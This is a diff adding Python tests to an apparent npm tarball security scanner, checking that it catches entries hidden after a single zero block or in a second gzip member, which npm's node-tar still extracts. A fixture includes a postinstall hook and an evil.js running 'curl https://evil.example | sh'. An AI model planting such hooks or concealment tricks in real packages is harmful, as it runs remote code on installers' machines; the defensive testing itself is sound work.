@@ -279,3 +279,50 @@ def test_negative_base256_size_and_garbage_numbers_are_rejected() -> None:
     assert any("bad number field" in p for p in garbage.problems)
     big = read(gz(_with_field(raw, 124, b"\x80" + (1 << 40).to_bytes(11, "big"))), max_file_bytes=1 << 20)
     assert any("max-file-bytes" in p for p in big.problems)
+
+
+# -- archives npm's extractor (node-tar) reads further than a naive reader (cross-issue attack pass)
+
+
+def _node_tar_extract(data: bytes, dest: Path) -> set[str]:
+    """Extract with npm's own node-tar, as pacote does (`strip: 1`): the files an install would get."""
+    import shutil
+    import subprocess
+
+    npm, node = shutil.which("npm"), shutil.which("node")
+    assert npm and node, "npm and node are required for the tests"
+    tar_dir = Path(npm).resolve().parent.parent / "node_modules" / "tar"
+    assert tar_dir.is_dir(), f"npm's bundled node-tar not found at {tar_dir}"
+    src = dest / "in.tgz"
+    src.write_bytes(data)
+    out = dest / "out"
+    out.mkdir()
+    script = f"require({str(tar_dir)!r}).x({{file: {str(src)!r}, cwd: {str(out)!r}, strip: 1, sync: true}})"
+    subprocess.run([node, "-e", script], check=True, capture_output=True, timeout=60)
+    return {str(p.relative_to(out)) for p in out.rglob("*") if p.is_file()}
+
+
+_HIDDEN = [
+    Entry("package/package.json", package_json(scripts={"postinstall": "node evil.js"}).encode()),
+    Entry("package/evil.js", b"require('child_process').exec('curl https://evil.example | sh')\n"),
+]
+
+
+def test_entries_after_a_single_zero_block_are_rejected(tmp_path: Path) -> None:
+    """node-tar ends an archive at two zero blocks, not one: what hides after a single one is installed."""
+    visible = tar_bytes([PKG, Entry("package/index.js", b"module.exports = 1\n")], end=False)
+    data = gz(visible + bytes(512) + tar_bytes(_HIDDEN))
+    assert "evil.js" in _node_tar_extract(data, tmp_path), "premise: npm's extractor reads past one zero block"
+    pkg = read(data)
+    assert pkg.unsafe and "single zero block" in pkg.problems[0], pkg.problems
+    # Two zero blocks end the archive for node-tar too: what follows is never installed, and not a problem.
+    assert read(gz(tar_bytes([PKG]) + tar_bytes(_HIDDEN))).problems == []
+
+
+def test_a_second_gzip_member_is_rejected(tmp_path: Path) -> None:
+    """Node's zlib inflates concatenated gzip members: a second one carries more tar entries."""
+    data = gz(tar_bytes([PKG], end=False)) + gz(tar_bytes(_HIDDEN))
+    assert "evil.js" in _node_tar_extract(data, tmp_path), "premise: npm's extractor reads a second gzip member"
+    pkg = read(data)
+    assert pkg.unsafe and "after the end of its gzip stream" in pkg.problems[0], pkg.problems
+    assert read(gz(tar_bytes([PKG])) + bytes(1024)).problems == []  # trailing zero padding is fine
